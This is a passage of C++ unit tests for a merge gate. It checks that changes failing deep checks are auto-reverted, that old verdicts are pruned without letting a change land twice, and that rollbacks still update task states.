  SUBCASE("the optimistic policy's auto-revert") {
    auto g = fx.open_gate({.mode = gate::policy::optimistic, .optimistic_every = 2, .board = &tasks});
    auto base = fx.main_tip();
    submit_task(*g, "o1", false, base);
    submit_task(*g, "o2", true, base);
    g->run_until_empty().value();
    CHECK_FALSE(fx.main_has("POISON"));
    CHECK(tasks.get(task_id{"o1"}).value().value().state == board::task_state::merged);
    auto t = tasks.get(task_id{"o2"}).value().value();
    CHECK(t.state == board::task_state::reverted);
    auto v = gate::verdict_from_json(t.result).value();
    CHECK(v.detail.find("broke the deep checks") != std::string::npos);
    REQUIRE_FALSE(v.checks.empty());
    CHECK_FALSE(v.checks.back().passed());  // the deep check that caught it, with its output
  }
}

// A long run's gate forgets what it decided long ago, so the store stays the
// size of the work in flight; what it forgets never lets a change land twice,
// and a rollback of a forgotten merge still reaches its task.
TEST_CASE("gate.prune_forgets_old_decisions_and_nothing_lands_twice") {
  gate_fixture fx;
  board::task_board tasks(*fx.store);
  auto lease = fx.store->grant(std::chrono::seconds(60)).value();
  auto g = fx.open_gate({.board = &tasks});
  std::map<std::string, gate::change> changes;
  auto submit_task = [&](const std::string& id, bool poison) {
    REQUIRE(tasks.propose({.id = task_id{id}, .title = "task " + id}).has_value());
    auto t = tasks.claim(worker_id{"w"}, lease).value();
    REQUIRE(t);
    REQUIRE(tasks.submit(task_id{id}, worker_id{"w"}).has_value());
    auto c = fx.make_change(id + "-1", poison);
    c.task = task_id{id};
    changes[id] = c;
    submit_ok(*g, c);
  };
  auto keys = [&](const std::string& what) { return fx.store->range("gate/main/" + what + "/").value().kvs.size(); };
  for (const char* id : {"a", "b", "c", "d"}) {
    submit_task(id, false);
    g->run_until_empty().value();
  }
  submit_task("bad", true);  // its deep checks fail
  g->run_until_empty().value();
  submit_task("e", false);
  g->run_until_empty().value();
  submit_task("waiting", false);  // queued, not yet run
  REQUIRE(keys("verdict") == 7);
  REQUIRE(keys("landed") == 5);
  const auto a_merged = g->verdict("a-1").value().value().merged_as.value();
  const auto tip = fx.main_tip();

  auto p = g->prune(2).value();
  CHECK(p.verdicts == 4);  // a, b, c, d: the newest two decided (bad, e) and the queued one stay
  CHECK(p.landed == 4);
  CHECK(keys("verdict") == 3);
  CHECK(keys("landed") == 1);
  CHECK_FALSE(g->verdict("a-1").value());
  CHECK(g->verdict("bad-1").value().value().kind == gate::verdict_kind::deep_checks_failed);
  CHECK(g->verdict("waiting-1").value().value().kind == gate::verdict_kind::queued);
  CHECK(g->prune(2).value().verdicts == 0);  // nothing more to forget

  // Submitted again under its id, a forgotten merged change is refused: it is on the branch.
  auto again = g->submit(changes["a"]).value();
  CHECK(again.kind == gate::verdict_kind::error);
  CHECK_MESSAGE(again.detail.find("is already on 'refs/heads/main'") != std::string::npos, again.detail);
  CHECK(fx.main_tip() == tip);
  g->run_until_empty().value();  // lands "waiting" only
  CHECK(fx.main_has("changes/waiting-1.txt"));
  std::size_t merges_of_a = 0;
  for (auto c = std::optional<git::oid>(fx.main_tip()); c;) {
    auto msg = fx.repo.commit_message(*c).value();
    if (msg.starts_with("Merge a-1")) ++merges_of_a;
    auto parents = fx.repo.commit_parents(*c).value();
    c = parents.empty() ? std::nullopt : std::optional<git::oid>(parents.front());
  }
  CHECK(merges_of_a == 1);

  // A rollback of a forgotten merge still moves its task to reverted.
  REQUIRE(g->rollback(a_merged, "a broke production").value().kind == gate::verdict_kind::queued);
  g->run_until_empty().value();
  CHECK_FALSE(fx.main_has("changes/a-1.txt"));
  auto t = tasks.get(task_id{"a"}).value().value();
  CHECK(t.state == board::task_state::reverted);
  CHECK(gate::verdict_from_json(t.result).value().detail.find("a broke production") != std::string::npos);
}
